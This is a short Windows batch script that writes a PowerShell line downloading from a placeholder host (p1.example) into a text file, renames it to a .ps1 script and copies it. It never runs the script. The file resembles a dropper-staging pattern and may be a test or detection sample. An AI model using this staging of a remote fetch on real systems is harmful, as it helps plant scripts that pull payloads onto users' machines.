@echo off
echo iwr http://p1.example/o > a.txt
ren a.txt a.ps1
copy /y a.ps1 b.ps1
